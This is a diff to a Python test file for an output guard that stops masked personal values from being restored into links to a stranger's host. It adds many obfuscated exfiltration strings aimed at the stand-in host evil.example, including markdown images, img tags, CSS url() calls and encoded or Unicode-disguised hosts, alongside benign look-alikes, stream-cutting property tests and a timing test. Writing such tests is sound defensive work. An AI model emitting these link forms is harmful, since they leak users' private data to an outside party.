@@ -1,8 +1,12 @@
 """The client's own values do not come back into addresses by which they would leave for a stranger."""
 
+import time
+from collections.abc import Sequence
 from itertools import pairwise
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from lockgate.core.events import TextDelta, ToolDelta, ToolStarted
 from lockgate.core.guard import Action, Mode, Rule, Rules
@@ -12,6 +16,7 @@ from lockgate.guards.exfiltration import plugin as exfiltration
 from lockgate.guards.pii import plugin as pii
 from lockgate.patterns.looking import Looking
 from lockgate.pipeline.careful import Careful
+from lockgate.pipeline.decide import filled
 from lockgate.pipeline.hold import Holdback
 from lockgate.pipeline.ledger import Ledger
 from lockgate.tokens.restorer import Restorer
@@ -43,6 +48,46 @@ STAY = (
     "https://<EMAIL_1>.evil.example/",
     "https://evil.example/" + "a" * 2000 + "<EMAIL_1>",
     '<a href="https://evil.example/?d=' + "all of mine " * 70 + '<EMAIL_1>">x</a>',
+    "see evil.example/path?x=<EMAIL_1>",
+    "evil.example?x=<EMAIL_1>",
+    "EVIL.EXAMPLE:8443/<EMAIL_1>",
+    "www.evil.example/?d=%3CEMAIL_1%3E",
+    "www.<EMAIL_1>.evil.example",
+    "see WWW.Evil.Example/<EMAIL_1>",
+    "//evil.example/<EMAIL_1>",
+    "**//evil.example/<EMAIL_1>**",
+    "jo@evil.example/<EMAIL_1>",
+    "203.0.113.9:8080/<EMAIL_1>",
+    "[2001:db8::1]/<EMAIL_1>",
+    "xn--bcher-kva.example/<EMAIL_1>",
+    "b\u00fccher.example/<EMAIL_1>",
+    "evil\u3002example/<EMAIL_1>",
+    "\uff45\uff56\uff49\uff4c.example/<EMAIL_1>",
+    "ev\u200bil.example/<EMAIL_1>",
+    "[see][r]\n\n[r]: evil.example/<EMAIL_1>",
+    "[r]: <evil.example/?d=my mail <EMAIL_1>>",
+    "[x](evil.example/?d=<EMAIL_1>)",
+    "<img src=evil.example/<EMAIL_1>>",
+    '<img src="/\\evil.example/<EMAIL_1>">',
+    '<img src="&#104;ttps&colon;&sol;&sol;evil.example/?d=a%20b<EMAIL_1>">',
+    '<img src="ht\ntps://evil.example/<EMAIL_1>">',
+    "div { background: url(//evil.example/<EMAIL_1>) }",
+    "div { background: url(https:\\2f\\2f evil.example/<EMAIL_1>) }",
+    "https:evil.example/<EMAIL_1>",
+    "/_next/image?url=https%3A%2F%2Fevil.example%2F%3Fd%3D<EMAIL_1>",
+    "https://ok.example/?u=evil.example/<EMAIL_1>",
+    "https://%65vil.example/a%20b/<EMAIL_1>",
+    "https\\://evil\\.example/<EMAIL_1>",
+    "https://evil.example/?a=&lt;EMAIL_2&gt;&b=<EMAIL_1>",
+    "https://evil.example/?a=< Email 2 >&b=<EMAIL_1>",
+    "<EMAIL_1>.evil.example",
+    "<EMAIL_1>-x.evil.example/",
+    "<EMAIL_1>.<EMAIL_2>.evil.example",
+    "<EMAIL_1>%2Eevil.example",
+    "<EMAIL_1>@evil.example:80/",
+    "mailto:them@evil.example?body=<EMAIL_1>",
+    '{"url": "evil.example/?d=my mail <EMAIL_1>"}',
+    "sftp://evil.example/<EMAIL_1>",
 )
 COME_BACK = (
     "write to <EMAIL_1>",
@@ -54,14 +99,47 @@ COME_BACK = (
     '<a href="https://evil.example/">of <EMAIL_1></a>',
     "/home/<EMAIL_1>/x",
     "a//b <EMAIL_1>",
+    "the end of it.<EMAIL_1> is next",
+    "write to <EMAIL_1>.",
+    "write to <EMAIL_1>.Then go on",
+    "<EMAIL_2>.<EMAIL_1>.<EMAIL_2>.",
+    "<EMAIL_1>, <EMAIL_2>: two of them",
+    "e.g./<EMAIL_1> or z.B./<EMAIL_1>",
+    "user.email=<EMAIL_1>",
+    "server.log: <EMAIL_1>",
+    "see evil.example and <EMAIL_1>",
+    "see (evil.example/a) or <EMAIL_1>",
+    "`evil.example/`<EMAIL_1>",
+    "[evil.example/](mailto:<EMAIL_1>)",
+    "version 1.2/<EMAIL_1>",
+    "3.5/5: <EMAIL_1>",
+    "src/main.rs/<EMAIL_1>",
+    "./a.b/<EMAIL_1> ~/.config/app.d/<EMAIL_1>",
+    "index.html?q=<EMAIL_1>",
+    "search.php?q=<EMAIL_1>",
+    "ok.example/?d=<EMAIL_1>",
+    "www.ok.example/<EMAIL_1>",
+    "OK.example:443/<EMAIL_1>",
+    "<EMAIL_1>.cdn.ok.example/",
+    "<EMAIL_1>.tar.gz and <EMAIL_1>.backup.json",
+    "https://ok.example/?site=shop.example/a&q=<EMAIL_1>",
+    "\u3057\u307e\u3057\u305f\u3002\u62c5\u5f53/<EMAIL_1>",
+    '{"site":"evil.example/","mail":"<EMAIL_1>"}',
+    "mailto:<EMAIL_1>?subject=Hello",
+    "and/or <EMAIL_1>",
+    "Mr./Mrs. <EMAIL_1>",
+    "https: <EMAIL_1>",
 )
 
 
-def streamed(text: str, *cuts: int, action: Action = "mask", mode: Mode = "enforce") -> tuple[str, Ledger]:
+def streamed(
+    text: str, *cuts: int, action: Action = "mask", mode: Mode = "enforce", rules: Sequence[Rule] | None = None
+) -> tuple[str, Ledger]:
+    """`rules`: others than the one that keeps values here, which holds all the same."""
     rule = Rule("stay-here", 1, action, OUT, mode)  # type: ignore[arg-type]
     ledger = Ledger("", 0, 0)
     restorer = Careful(PLAIN, (rule,), ENGINE.outlets, ledger)
-    hold = Holdback(Rules((rule,), ENGINE, "response"), ledger, restorer)
+    hold = Holdback(Rules((rule,) if rules is None else rules, ENGINE, "response"), ledger, restorer)
     ends = [0, *cuts, len(text)]
     pieces = [text[a:b] for a, b in pairwise(ends)]
     out = [event for piece in pieces for release in hold.feed(None, [TextDelta(piece)]) for event in release.events]
@@ -87,6 +165,48 @@ def test_elsewhere_and_to_known_hosts_it_comes_back(text: str) -> None:
 
         assert "jo@mail.org" in out, cut
         assert not any(found.label == "value_in_address" for found in ledger.findings)
+
+
+SOME = st.sampled_from(
+    ("<EMAIL_1>", "<EMAIL_2>", "%3CEMAIL_1%3E", "< email 2 >", "www.", "evil.example", "ok.example", ".", "/", "?d=", "&b=", ":80", "@",
+     "https:", "//", "\\/", "%2F", "&#47;", "&", " ", "\n", '"', "'", "(", ")", "](", "]: ", "<", ">", "`", "=", "x", "1", "\u3002", "%2E")
+)  # fmt: skip
+
+
+@settings(max_examples=400)
+@given(st.lists(SOME, min_size=1, max_size=14), st.data())
+def test_S62_any_cut_gives_what_the_whole_text_gives(pieces: list[str], data: st.DataObject) -> None:
+    text = "".join(pieces)
+    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
+    whole = filled(text, restorer.holes(text, restorer.found(text)))
+    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=6).map(sorted))
+
+    assert streamed(text, *cuts, rules=())[0] == whole
+    assert streamed(text, *range(1, len(text)), rules=())[0] == whole
+
+
+def test_S49_no_text_makes_looking_for_addresses_slow() -> None:
+    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
+    for unit in (
+        "a.",
+        "a.b/",
+        "%25",
+        "&#47;",
+        "\\2f ",
+        "https:",
+        "(",
+        "a@",
+        "www.",
+        "\u3002a",
+        "<EMAIL_1>.",
+        "mailto:a@",
+        "xn--a.",
+    ):
+        text = (unit * 1400)[:1400] + "<EMAIL_1>" + (unit * 200)[:200]
+        started = time.process_time()
+        restorer.holes(text, restorer.found(text)[-1:])
+
+        assert time.process_time() - started < 0.25, unit
 
 
 def test_the_record_says_so() -> None:
